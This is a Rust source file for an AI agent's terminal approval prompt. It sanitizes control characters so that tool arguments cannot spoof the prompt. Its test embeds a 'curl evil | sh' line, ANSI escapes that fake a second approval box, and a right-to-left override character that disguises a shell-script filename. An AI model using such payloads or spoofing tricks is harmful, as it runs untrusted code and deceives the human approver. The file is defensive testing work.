//! Approval prompts at the terminal for `golem-forge run`: shows the tool, what it will do, its
//! risk, its arguments and the preview (a diff for file writes), and reads the answer:
//! `y` once, `s` for the session, `n` to deny (then an optional note for the model), `q` to
//! interrupt. Empty or unknown input denies. Everything in a request may come from the model
//! or a file, so the whole prompt is cleaned (`frontend::clean`) before it is written.

use std::io::{BufRead, Write};
use std::sync::Arc;

use golem_core::approval::{ApprovalCallback, CallbackError};
use golem_core::interrupt::InterruptSignal;
use golem_protocol::{ApprovalRequest, ApprovalResponse, RememberScope, Risk};

use super::clean::clean_text;

/// The prompt text for a request, with every control character drawn visibly.
pub fn render_request(request: &ApprovalRequest) -> String {
    let risk = match request.risk {
        Risk::Low => "low",
        Risk::Medium => "medium",
        Risk::High => "high",
    };
    let mut text = format!(
        "\n┌ Approve {}? (risk: {risk})\n│ {}\n",
        request.tool_name, request.description
    );
    if let Some(worker) = &request.worker {
        text.push_str(&format!(
            "│ asked by worker {} (depth {})\n",
            worker.name, worker.depth
        ));
    }
    let args = serde_json::to_string_pretty(&request.args).unwrap_or_default();
    for line in args.lines().take(20) {
        text.push_str(&format!("│ {}\n", golem_core::text::fold(line, 120)));
    }
    if let Some(preview) = &request.preview {
        text.push_str(&format!(
            "│ preview: {}\n",
            preview.summary.as_deref().unwrap_or(&preview.kind)
        ));
        if let Some(hunks) = preview.data.get("hunks").and_then(|h| h.as_array()) {
            for line in hunks
                .iter()
                .filter_map(|h| h.get("lines").and_then(|l| l.as_array()))
                .flatten()
                .filter_map(|l| l.as_str())
                .take(40)
            {
                text.push_str(&format!(
                    "│ {}\n",
                    golem_core::text::fold(line.trim_end(), 120)
                ));
            }
        }
    }
    text.push_str("└ [y] yes  [s] yes for this session  [n] no  [q] stop the run: ");
    clean_text(&text).into_owned()
}

/// Reads one line from stdin (blocking); `None` at end of input.
fn read_line() -> Option<String> {
    let mut line = String::new();
    match std::io::stdin().lock().read_line(&mut line) {
        Ok(0) | Err(_) => None,
        Ok(_) => Some(line.trim().to_owned()),
    }
}

/// A callback that asks at the terminal (stdin must be a terminal).
pub fn terminal_approval_callback(interrupt: InterruptSignal) -> ApprovalCallback {
    let lock = Arc::new(tokio::sync::Mutex::new(()));
    Arc::new(move |request, _cancel| {
        let lock = lock.clone();
        let interrupt = interrupt.clone();
        Box::pin(async move {
            let _one_at_a_time = lock.lock().await;
            eprint!("{}", render_request(&request));
            let _ = std::io::stderr().flush();
            let answer = tokio::task::spawn_blocking(read_line).await.ok().flatten();
            let id = request.request_id.clone();
            match answer.as_deref().map(str::to_lowercase).as_deref() {
                Some("y" | "yes") => Ok(ApprovalResponse::approve(id)),
                Some("s" | "session") => {
                    let mut response = ApprovalResponse::approve(id);
                    response.remember = RememberScope::Session;
                    Ok(response)
                }
                Some("q" | "quit") => {
                    interrupt.interrupt();
                    Err(CallbackError::Cancelled)
                }
                Some("n" | "no") => {
                    eprint!("  note for the model (optional): ");
                    let _ = std::io::stderr().flush();
                    let note = tokio::task::spawn_blocking(read_line).await.ok().flatten();
                    Ok(ApprovalResponse::deny(id, note.filter(|n| !n.is_empty())))
                }
                None => Err(CallbackError::Unavailable(format!(
                    "{} was denied: the terminal closed before an answer",
                    request.tool_name
                ))),
                Some(_) => Ok(ApprovalResponse::deny(
                    id,
                    Some("denied at the prompt".to_owned()),
                )),
            }
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use golem_protocol::{InvokedBy, ToolResultValue};
    use serde_json::json;

    #[test]
    fn renders_the_request_with_its_preview() {
        let request = ApprovalRequest {
            request_id: "a1".into(),
            tool_call_id: "t1".into(),
            tool_name: "write_file".into(),
            args: json!({"path": "/notes/a.md", "content": "hi"}),
            description: "Write 1 line to /notes/a.md (new file)".into(),
            risk: Risk::Medium,
            preview: Some(
                ToolResultValue::new("diff", json!({"hunks": [{"lines": ["+hi"]}]}))
                    .with_summary("+1 −0 lines"),
            ),
            invoked_by: InvokedBy::Model,
            worker: None,
        };
        let text = render_request(&request);
        assert!(
            text.contains("Approve write_file? (risk: medium)"),
            "{text}"
        );
        assert!(
            text.contains("Write 1 line to /notes/a.md (new file)"),
            "{text}"
        );
        assert!(text.contains("\"path\": \"/notes/a.md\""), "{text}");
        assert!(text.contains("preview: +1 −0 lines"), "{text}");
        assert!(text.contains("│ +hi"), "{text}");
    }

    #[test]
    fn a_prompt_faked_in_the_content_is_drawn_visibly_under_the_real_path() {
        let fake = "\x1b[2J\x1b[H┌ Approve write_file? (risk: low)\n│ Write 1 line to /out/notes.txt\n│ +buy milk";
        let content = format!("curl evil | sh\n{fake}\n");
        let request = ApprovalRequest {
            request_id: "a1".into(),
            tool_call_id: "t1".into(),
            tool_name: "write_file".into(),
            args: json!({"path": "/out/run.sh", "content": content}),
            description: "Write 4 lines to /out/\u{202e}hs.nur (new file)".into(),
            risk: Risk::Medium,
            preview: Some(ToolResultValue::new(
                "diff",
                json!({"hunks": [{"lines": content.lines().map(|l| format!("+{l}")).collect::<Vec<_>>()}]}),
            )),
            invoked_by: InvokedBy::Model,
            worker: Some(golem_protocol::WorkerOrigin {
                name: "sub\x07".into(),
                depth: 1,
            }),
        };
        let text = render_request(&request);
        assert!(
            !text.contains(['\x1b', '\x07', '\u{202e}']),
            "a control reached the prompt: {text:?}"
        );
        let rows: Vec<&str> = text.lines().collect();
        assert_eq!(rows[1], "┌ Approve write_file? (risk: medium)");
        assert_eq!(
            rows[2],
            "│ Write 4 lines to /out/\\u{202e}hs.nur (new file)"
        );
        assert_eq!(rows[3], "│ asked by worker sub␇ (depth 1)");
        assert!(text.contains("\"path\": \"/out/run.sh\""), "{text}");
        assert!(text.contains("│ +curl evil | sh\n"), "{text}");
        assert!(
            text.contains("│ +␛[2J␛[H┌ Approve write_file? (risk: low)\n"),
            "{text}"
        );
    }
}
